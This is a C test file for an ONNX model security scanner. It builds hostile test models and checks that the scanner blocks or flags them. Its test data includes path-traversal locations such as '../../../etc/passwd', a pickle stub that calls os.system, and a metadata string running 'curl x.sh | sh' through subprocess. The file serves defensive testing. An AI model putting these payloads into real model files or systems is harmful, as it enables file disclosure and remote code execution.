/* SPDX-License-Identifier: Apache-2.0 */
/*
 * There is no public collection of harmful ONNX models, so they are made here, one for each rule of
 * docs/formats/onnx.md and each of the advisories that it names.
 */
#include "base/text.h"
#include "tests/corpus.h"
#include "tests/findings.h"
#include "tests/message.h"

enum { GRAPH = 7, NODE = 1, INITIALIZER = 5, SPARSE = 15, ATTRIBUTE = 5 };

static struct message node(const char *domain, const char *op)
{
    struct message m = {0};
    message_text(&m, 1, "x");
    message_text(&m, 2, "y");
    message_text(&m, 4, op);
    if (domain != NULL) {
        message_text(&m, 7, domain);
    }
    return m;
}

/* A model of one graph; functions may be NULL. */
static struct message model(const struct message *graph, const struct message *more)
{
    struct message m = {0};
    struct message opset = {0};
    message_number(&m, 1, 8);
    message_text(&m, 2, "test");
    message_number(&opset, 2, 17);
    message_put(&m, 8, &opset);
    message_put(&m, GRAPH, graph);
    if (more != NULL) {
        memcpy(m.data + m.len, more->data, more->len);
        m.len += more->len;
    }
    return m;
}

static struct findings inspect(const struct message *m)
{
    return findings_of("sub/model.onnx", SR_PROFILE_TENSORS, message_view(m));
}

static struct findings of_graph(const struct message *graph)
{
    struct message m = model(graph, NULL);
    return inspect(&m);
}

static struct findings of_node(const struct message *n)
{
    struct message graph = {0};
    message_put(&graph, NODE, n);
    return of_graph(&graph);
}

static struct findings of_tensor(const struct message *t)
{
    struct message graph = {0};
    message_put(&graph, INITIALIZER, t);
    return of_graph(&graph);
}

/* The same tensor as the value of an attribute, four graphs deep. */
static struct findings of_nested_tensor(const struct message *t)
{
    struct message graph = {0};
    message_put(&graph, INITIALIZER, t);
    for (unsigned i = 0; i < 4; i++) {
        struct message attribute = {0};
        struct message n = node(NULL, "If");
        message_text(&attribute, 1, "then_branch");
        message_put(&attribute, 6, &graph);
        message_number(&attribute, 20, 5);
        message_put(&n, ATTRIBUTE, &attribute);
        graph = (struct message){0};
        message_put(&graph, NODE, &n);
    }
    return of_graph(&graph);
}

static struct message tensor(uint64_t dim, uint64_t type)
{
    struct message t = {0};
    message_number(&t, 1, dim);
    message_number(&t, 2, type);
    return t;
}

static void add_external(struct message *t, const char *key, const char *value)
{
    struct message entry = {0};
    message_text(&entry, 1, key);
    message_text(&entry, 2, value);
    message_put(t, 13, &entry);
}

static struct message external(const char *location)
{
    struct message t = tensor(4, 1);
    message_number(&t, 14, 1);
    add_external(&t, "location", location);
    return t;
}

static void passes_standard_operators(void)
{
    static const struct {
        const char *domain;
        const char *op;
    } OPS[] = {{NULL, "Add"},
               {"", "Loop"},
               {"ai.onnx", "Attention"},
               {"ai.onnx.ml", "TreeEnsemble"},
               {"com.microsoft", "Gelu"},
               {"com.microsoft.nchwc", "Conv"}};
    for (size_t i = 0; i < sizeof OPS / sizeof OPS[0]; i++) {
        struct message n = node(OPS[i].domain, OPS[i].op);
        struct findings f = of_node(&n);
        CHECK(findings_pass(&f) && strcmp(f.format, "onnx") == 0);
    }
}

/* ON-1: the bytes decide, the name does not. */
static void knows_a_model_by_its_bytes(void)
{
    struct message n = node("evil", "PyOp");
    struct message graph = {0};
    message_put(&graph, NODE, &n);
    struct message m = model(&graph, NULL);
    struct findings f = findings_of("weights.dat", SR_PROFILE_TENSORS, message_view(&m));
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON));
    m.data[m.len++] = 0;
    f = findings_of("weights.dat", SR_PROFILE_TENSORS, message_view(&m));
    CHECK(f.verdict == SR_VERDICT_UNPARSABLE && strcmp(f.format, "onnx") != 0);
}

/* ON-2, and what PB-n refuses. */
static void refuses_what_the_schema_does_not_have(void)
{
    struct message n = node(NULL, "Add");
    struct message graph = {0};
    message_put(&graph, NODE, &n);
    struct message more = {0};
    message_text(&more, 77, "what is this");
    struct message m = model(&graph, &more);
    struct findings f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_UNKNOWN_FIELD));
    more = (struct message){0};
    message_put(&more, GRAPH, &graph);
    m = model(&graph, &more); /* a second graph: some decoders merge, some take the last */
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_MALFORMED));
    message_text(&n, 4, "Sub");
    f = of_node(&n);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_MALFORMED));
    m = model(&graph, NULL);
    m.len--;
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_TRUNCATED));
    m = (struct message){0};
    message_number(&m, 1, 8);
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
    m = (struct message){0};
    message_put(&m, GRAPH, &graph);
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
}

/* ON-3: what stands before the fault, or after it, is still found. */
static void finds_python_in_a_broken_model(void)
{
    struct message n = node("py", "PyOp");
    struct message graph = {0};
    message_put(&graph, NODE, &n);
    struct message m = model(&graph, NULL);
    m.data[m.len++] = 7;
    struct findings f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON) &&
          findings_has(&f, SR_RULE_MALFORMED));
    struct message broken = {0};
    message_byte(&broken, 0xff);
    memcpy(broken.data + 1, m.data, m.len);
    broken.len = m.len + 1;
    broken.data[0] = 7;
    f = inspect(&broken);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON));
}

static void passes_whole_tensors(void)
{
    static const uint8_t ZEROS[64] = {0};
    struct message t = tensor(4, 1);
    message_bytes(&t, 9, ZEROS, 16);
    struct findings f = of_tensor(&t);
    CHECK(findings_pass(&f));
    f = of_nested_tensor(&t);
    CHECK(findings_pass(&f));
    t = tensor(4, 1);
    message_bytes(&t, 4, ZEROS, 16); /* packed */
    f = of_tensor(&t);
    CHECK(findings_pass(&f));
    t = tensor(3, 22); /* three of INT4 in two bytes, or in two entries */
    message_bytes(&t, 9, ZEROS, 2);
    f = of_tensor(&t);
    CHECK(findings_pass(&f));
    t = tensor(3, 22);
    message_bytes(&t, 5, ZEROS, 2);
    f = of_tensor(&t);
    CHECK(findings_pass(&f));
    t = tensor(2, 14); /* complex: two floats each */
    message_bytes(&t, 4, ZEROS, 16);
    f = of_tensor(&t);
    CHECK(findings_pass(&f));
    t = tensor(0, 1); /* nothing */
    f = of_tensor(&t);
    CHECK(findings_pass(&f));
    t = tensor(2, 8);
    message_text(&t, 6, "cat");
    message_text(&t, 6, "dog");
    f = of_tensor(&t);
    CHECK(findings_pass(&f));
}

/* ON-4, ON-5 */
static void refuses_tensors_that_are_not_what_they_say(void)
{
    static const uint8_t ZEROS[64] = {0};
    struct message cases[12];
    memset(cases, 0, sizeof cases);
    cases[0] = tensor(4, 1); /* shorter than its shape */
    message_bytes(&cases[0], 9, ZEROS, 12);
    cases[1] = tensor(UINT64_MAX, 1); /* -1 elements */
    message_bytes(&cases[1], 9, ZEROS, 12);
    cases[2] = tensor((uint64_t)1 << 62, 1); /* whose size in bytes wraps to 0 */
    message_bytes(&cases[2], 9, ZEROS, 0);
    cases[3] = tensor((uint64_t)1 << 40, 1); /* whose elements wrap to 0 */
    message_number(&cases[3], 1, (uint64_t)1 << 40);
    message_bytes(&cases[3], 9, ZEROS, 0);
    cases[4] = tensor(4, 99);
    message_bytes(&cases[4], 9, ZEROS, 16);
    cases[5] = tensor(4, 1); /* in two places */
    message_bytes(&cases[5], 9, ZEROS, 16);
    message_bytes(&cases[5], 4, ZEROS, 16);
    cases[6] = tensor(4, 1); /* in the wrong place */
    message_bytes(&cases[6], 5, ZEROS, 4);
    cases[7] = tensor(4, 1); /* nowhere */
    cases[8] = tensor(4, 6); /* fewer than its shape */
    message_bytes(&cases[8], 5, ZEROS, 3);
    cases[9] = tensor(4, 1);
    message_bytes(&cases[9], 9, ZEROS, 16);
    message_bytes(&cases[9], 3, ZEROS, 0); /* a segment */
    cases[10] = tensor(4, 1);
    message_bytes(&cases[10], 9, ZEROS, 16);
    message_number(&cases[10], 14, 2);
    cases[11] = tensor(4, 1); /* external data that is not announced */
    message_bytes(&cases[11], 9, ZEROS, 16);
    add_external(&cases[11], "location", "model.bin");
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct findings f = of_tensor(&cases[i]);
        CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
        f = of_nested_tensor(&cases[i]);
        CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
    }
    struct message string = tensor(1, 8);
    message_bytes(&string, 9, ZEROS, 8);
    struct findings f = of_tensor(&string);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
}

/* ON-6: CVE-2022-25882, CVE-2024-27318 and their like. */
static void blocks_external_data_outside(void)
{
    static const char *const PATHS[] = {
        "../../../etc/passwd", "..",       "/etc/passwd", "a/../../b",     "", "a//b",
        "C:\\x.bin",           "a\\..\\b", "./../x",      ".//etc/passwd",
    };
    for (size_t i = 0; i < sizeof PATHS / sizeof PATHS[0]; i++) {
        struct message t = external(PATHS[i]);
        struct findings f = of_tensor(&t);
        CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
        f = of_nested_tensor(&t);
        CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
    }
    struct message t = external("*/_ORT_MEM_ADDR_/*");
    add_external(&t, "offset", "140737353971200");
    struct findings f = of_tensor(&t);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_EXTERNAL_MEMORY));
    t = external("../x"); /* whatever else is wrong with it */
    message_number(&t, 1, UINT64_MAX);
    f = of_tensor(&t);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
}

static void refers_to_external_data(void)
{
    struct message t = external("./weights.bin");
    add_external(&t, "offset", "4096");
    add_external(&t, "length", "16");
    add_external(&t, "checksum", "da39a3ee5e6b4b0d3255bfef95601890afd80709");
    struct findings f = of_tensor(&t);
    CHECK(findings_pass(&f) && strcmp(f.referred, "sub/weights.bin\n") == 0);
}

/* A model and the file that it takes its tensor from, in either order. */
static enum sr_verdict of_pair(struct sr_bytes data, bool model_first)
{
    struct findings f = {0};
    struct sr_inspection_events events = {
        .finding = findings_keep, .reference = findings_refer, .ctx = &f};
    SR_AUTO(sr_inspection) in = NULL;
    struct message t = external("weights.bin");
    struct message graph = {0};
    struct sr_inspected result = {0};
    message_put(&graph, INITIALIZER, &t);
    struct message m = model(&graph, NULL);
    CHECK(sr_inspection_new(SR_PROFILE_TENSORS, &events, &in) == SR_OK);
    if (in == NULL) {
        return SR_VERDICT_BLOCK;
    }
    if (model_first) {
        sr_inspection_file(in, sr_text_view("model.onnx"), message_view(&m), &result);
        CHECK(result.verdict == SR_VERDICT_PASS);
        sr_inspection_file(in, sr_text_view("weights.bin"), data, &result);
    } else {
        sr_inspection_file(in, sr_text_view("weights.bin"), data, &result);
        CHECK(result.verdict == SR_VERDICT_UNPARSABLE); /* nobody has said yet what it is */
        sr_inspection_file(in, sr_text_view("model.onnx"), message_view(&m), &result);
    }
    return sr_verdict_worst(result.verdict, sr_inspection_end(in));
}

static void binds_external_data(void)
{
    static const char DATA[] = "\x01\x02\x03\x04 twelve more payload";
    CHECK(of_pair(sr_bytes(DATA, 16), true) == SR_VERDICT_PASS);
    CHECK(of_pair(sr_bytes(DATA, 16), false) == SR_VERDICT_PASS);
    CHECK(of_pair(sr_bytes(DATA, 17), true) == SR_VERDICT_UNPARSABLE); /* bytes that nobody takes */
    static const char PICKLE[] = "cos\nsystem\n(tR."; /* which a loader of .bin would run */
    CHECK(of_pair(sr_bytes(PICKLE, 16), true) == SR_VERDICT_BLOCK);
    CHECK(of_pair(sr_bytes(DATA, 15), true) > SR_VERDICT_PASS); /* fewer than are taken */
}

static void refuses_external_data_that_is_not_defined(void)
{
    static const struct {
        const char *key;
        const char *value;
        enum sr_verdict verdict;
        enum sr_rule rule;
    } CASES[] = {
        {"offset", "-1", SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL},
        {"offset", "0x10", SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL},
        {"offset", "9223372036854775807", SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL},
        {"length", "17", SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL},
        {"location", "other.bin", SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL},
        {"__class__", "x", SR_VERDICT_REVIEW, SR_RULE_ONNX_EXTERNAL_KEY},
    };
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        struct message t = external("weights.bin");
        add_external(&t, CASES[i].key, CASES[i].value);
        struct findings f = of_tensor(&t);
        CHECK(findings_is(&f, CASES[i].verdict, CASES[i].rule));
    }
    struct message t = tensor(4, 1);
    message_number(&t, 14, 1);
    struct findings f = of_tensor(&t);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* no location */
    t = external("weights.bin");
    message_bytes(&t, 9, "0123456789abcdef", 16);
    f = of_tensor(&t);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* here and there */
    t = tensor(1, 8);
    message_number(&t, 14, 1);
    add_external(&t, "location", "weights.bin");
    f = of_tensor(&t);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* strings */
}

static struct findings of_sparse(const struct message *values, const struct message *indices)
{
    struct message sparse = {0};
    struct message graph = {0};
    if (values != NULL) {
        message_put(&sparse, 1, values);
    }
    message_put(&sparse, 2, indices);
    message_number(&sparse, 3, 100);
    message_number(&sparse, 3, 100);
    message_put(&graph, SPARSE, &sparse);
    return of_graph(&graph);
}

/* ON-7 */
static void looks_into_sparse_tensors(void)
{
    static const uint8_t ZEROS[64] = {0};
    struct message values = tensor(2, 1);
    struct message indices = tensor(2, 7);
    message_bytes(&values, 9, ZEROS, 8);
    message_bytes(&indices, 9, ZEROS, 16);
    struct findings f = of_sparse(&values, &indices);
    CHECK(findings_pass(&f));
    f = of_sparse(NULL, &indices);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
    f = of_sparse(&values, &values); /* not int64 */
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
    struct message pairs = tensor(2, 7);
    message_number(&pairs, 1, 2);
    message_bytes(&pairs, 9, ZEROS, 32);
    f = of_sparse(&values, &pairs);
    CHECK(findings_pass(&f));
    pairs = tensor(2, 7);
    message_number(&pairs, 1, 3);
    message_bytes(&pairs, 9, ZEROS, 48);
    f = of_sparse(&values, &pairs);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
    struct message outside = external("../x");
    f = of_sparse(&outside, &indices);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
}

/* ON-8, ON-9 */
static void reports_operators_of_others(void)
{
    static const struct {
        const char *domain;
        const char *op;
        enum sr_verdict verdict;
        enum sr_rule rule;
    } CASES[] = {
        {"my.company", "Thing", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {NULL, "Thing", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {"ai.onnx.contrib", "BpeTokenizer", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {"com.microsoft", "EPContext", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {"com.microsoft", "Add", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {"com.microsoft.evil", "Gelu", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {"org.pytorch.aten", "ATen", SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR},
        {"pyopmulti_1", "Multi", SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON},
        {"ai.onnx.contrib", "PyOp", SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON},
        {"com.microsoft", "PythonOp", SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON},
    };
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        struct message n = node(CASES[i].domain, CASES[i].op);
        struct findings f = of_node(&n);
        CHECK(findings_is(&f, CASES[i].verdict, CASES[i].rule));
    }
    struct message opset = {0};
    struct message more = {0};
    struct message graph = {0};
    message_text(&opset, 1, "my.company");
    message_number(&opset, 2, 1);
    message_put(&more, 8, &opset);
    struct message m = model(&graph, &more);
    struct findings f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_REVIEW, SR_RULE_ONNX_CUSTOM_DOMAIN));
}

static struct message function(const char *name, const char *calls)
{
    struct message m = {0};
    struct message n = node("local", calls);
    message_text(&m, 1, name);
    message_put(&m, 7, &n);
    message_text(&m, 10, "local");
    return m;
}

/* ON-10, ON-11; GHSA-7w46-vvrh-m8q5 */
static void follows_functions(void)
{
    struct message n = node("local", "a");
    struct message add = node(NULL, "Add");
    struct message graph = {0};
    struct message more = {0};
    struct message leaf = {0};
    message_put(&graph, NODE, &n);
    message_text(&leaf, 1, "c");
    message_text(&leaf, 10, "local");
    message_put(&leaf, 7, &add);
    struct message a = function("a", "b");
    struct message b = function("b", "c");
    struct message opset = {0};
    message_text(&opset, 1, "local");
    message_put(&more, 8, &opset);
    message_put(&more, 25, &a);
    message_put(&more, 25, &b);
    message_put(&more, 25, &leaf);
    struct message m = model(&graph, &more);
    struct findings f = inspect(&m);
    CHECK(findings_pass(&f));

    struct message twice = more;
    message_put(&twice, 25, &leaf);
    m = model(&graph, &twice);
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));

    struct message cycle = {0};
    struct message c = function("c", "a");
    message_put(&cycle, 25, &a);
    message_put(&cycle, 25, &b);
    message_put(&cycle, 25, &c);
    m = model(&graph, &cycle);
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_FUNCTION_CYCLE));

    struct message self = {0};
    struct message s = function("a", "a");
    message_put(&self, 25, &s);
    m = model(&graph, &self);
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_FUNCTION_CYCLE));

    struct message open = {0};
    message_put(&open, 25, &a);
    m = model(&graph, &open);
    f = inspect(&m);
    CHECK(findings_is(&f, SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR)); /* b is not there */
}

/* ON-12 */
static void refuses_attributes_of_two_minds(void)
{
    struct message attribute = {0};
    struct message n = node(NULL, "Constant");
    message_text(&attribute, 1, "value");
    message_number(&attribute, 3, 7);
    message_number(&attribute, 20, 2);
    message_put(&n, ATTRIBUTE, &attribute);
    struct findings f = of_node(&n);
    CHECK(findings_pass(&f));
    static const struct {
        uint32_t field;
        uint64_t value;
    } MORE[] = {{8, 1}, {20, 9}, {20, 99}};
    for (size_t i = 0; i < sizeof MORE / sizeof MORE[0]; i++) {
        attribute = (struct message){0};
        n = node(NULL, "Constant");
        message_text(&attribute, 1, "value");
        message_number(&attribute, 3, 7);
        message_number(&attribute, MORE[i].field, MORE[i].value);
        message_put(&n, ATTRIBUTE, &attribute);
        f = of_node(&n);
        CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
    }
}

static struct findings of_metadata(const char *key, const char *value)
{
    struct message entry = {0};
    struct message more = {0};
    struct message graph = {0};
    message_text(&entry, 1, key);
    message_text(&entry, 2, value);
    message_put(&more, 14, &entry);
    struct message m = model(&graph, &more);
    return inspect(&m);
}

/* ON-13 */
static void looks_at_texts(void)
{
    static const char CODE[] = "import subprocess; subprocess.run('curl x.sh | sh', shell=True)";
    struct findings f = of_metadata("author", "somebody");
    CHECK(findings_pass(&f));
    f = of_metadata("author", CODE);
    CHECK(f.verdict == SR_VERDICT_REVIEW && f.count > 0);
    f = of_metadata("pkg.torch.onnx.stack_trace",
                    "File \"/a/model.py\", line 10, in forward\n    import x; return self.conv(x)");
    CHECK(findings_pass(&f));
    f = of_metadata("docs", "https://docs.publisher.example");
    CHECK(findings_pass(&f));
    f = of_metadata("docs", "http://docs.publisher.example/x");
    CHECK(f.verdict == SR_VERDICT_REVIEW);
    f = of_metadata("download_url", "https://docs.publisher.example/x");
    CHECK(f.verdict == SR_VERDICT_REVIEW);
    struct message attribute = {0};
    struct message n = node(NULL, "Constant");
    message_text(&attribute, 1, "value_string");
    message_text(&attribute, 4, CODE);
    message_put(&n, ATTRIBUTE, &attribute);
    f = of_node(&n);
    CHECK(f.verdict == SR_VERDICT_REVIEW && f.count > 0);
}

static bool corpus_passes(const char *name)
{
    enum { SAMPLE_BYTES_MAX = 1 << 22 };
    static uint8_t data[SAMPLE_BYTES_MAX];
    FILE *f = corpus_open("benign-onnx", name);
    if (f == NULL) {
        return false;
    }
    size_t len = fread(data, 1, sizeof data, f);
    (void)fclose(f);
    struct findings found = findings_of(name, SR_PROFILE_TENSORS, sr_bytes(data, len));
    return findings_pass(&found) && found.covered == len;
}

static void passes_benign_models(void)
{
    FILE *manifest = corpus_open("benign-onnx", "MANIFEST.tsv");
    char line[2048];
    unsigned count = 0;
    while (manifest != NULL && fgets(line, sizeof line, manifest) != NULL) {
        line[strcspn(line, "\t")] = '\0';
        if (strchr(line, '/') != NULL) {
            CHECK(corpus_passes(line));
            count++;
        }
    }
    CHECK(count > 100);
    if (manifest != NULL) {
        (void)fclose(manifest);
    }
}

int main(void)
{
    RUN(passes_standard_operators);
    RUN(knows_a_model_by_its_bytes);
    RUN(refuses_what_the_schema_does_not_have);
    RUN(finds_python_in_a_broken_model);
    RUN(passes_whole_tensors);
    RUN(refuses_tensors_that_are_not_what_they_say);
    RUN(blocks_external_data_outside);
    RUN(refers_to_external_data);
    RUN(binds_external_data);
    RUN(refuses_external_data_that_is_not_defined);
    RUN(looks_into_sparse_tensors);
    RUN(reports_operators_of_others);
    RUN(follows_functions);
    RUN(refuses_attributes_of_two_minds);
    RUN(looks_at_texts);
    FILE *corpus = corpus_open("benign-onnx", "MANIFEST.tsv");
    if (corpus == NULL) {
        SKIP(passes_benign_models, CORPUS_ABSENT);
        return check_done();
    }
    (void)fclose(corpus);
    RUN(passes_benign_models);
    return check_done();
}
